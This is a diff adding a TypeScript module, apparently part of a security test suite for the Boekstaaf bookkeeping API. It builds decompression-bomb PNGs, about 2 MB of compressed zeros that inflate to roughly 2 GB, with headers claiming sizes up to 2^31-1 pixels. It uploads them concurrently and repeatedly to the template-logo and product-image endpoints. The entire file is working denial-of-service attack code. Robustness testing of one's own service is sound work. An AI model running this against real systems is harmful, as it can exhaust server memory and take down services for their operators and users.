@@ -1,0 +1,47 @@
+// Images of two megabytes that inflate to two gigabytes, wherever somebody can put an image.
+import { createDeflate } from 'node:zlib';
+import { Boekstaaf } from 'boekstaaf';
+import { buffer } from 'node:stream/consumers';
+import { Readable } from 'node:stream';
+import { pngSaying } from '../images.ts';
+import { emptyCompany, productOver } from '../world.ts';
+import { together, type Attack } from './attack.ts';
+
+const MEGABYTE = 1_000_000;
+const INFLATED = 2_000;
+/** What the header says: little, as much as is there, and as much as a header can. */
+const SIZES = [
+  [10, 10],
+  [25_000, 20_000],
+  [4_000, 3_000],
+  [2 ** 31 - 1, 2 ** 31 - 1],
+] as const;
+const ROUNDS = 5;
+const AT_ONCE = 4;
+
+export const inflatingImages: Attack = {
+  name: 'images of 2 MB that inflate to 2 GB',
+  async run(target) {
+    const api = new Boekstaaf({ baseUrl: target.baseUrl, apiKey: target.key });
+    const { factuur_pdf_template_id } = await emptyCompany(api);
+    const { id } = await productOver(api, 10);
+    const places = [
+      `/api2/pdf_templates/${String(factuur_pdf_template_id)}/logo`,
+      `/api2/producten/${String(id)}/afbeelding`,
+    ];
+    const pixels = await manyZeros();
+    const put = (path: string, body: Buffer) => () =>
+      target.ask('PUT', path, { body, headers: { 'content-type': 'image/png' } });
+    const works = Array.from({ length: ROUNDS }, () =>
+      SIZES.flatMap((size) => places.map((path) => put(path, pngSaying(size, pixels)))),
+    ).flat();
+    return { statuses: await together(works, AT_ONCE) };
+  },
+};
+
+/** Zeros, compressed, without having all of them at once. */
+async function manyZeros(): Promise<Buffer> {
+  const chunk = Buffer.alloc(MEGABYTE);
+  const zeros = Readable.from(Array.from({ length: INFLATED }, () => chunk));
+  return buffer(zeros.pipe(createDeflate({ level: 9 })));
+}
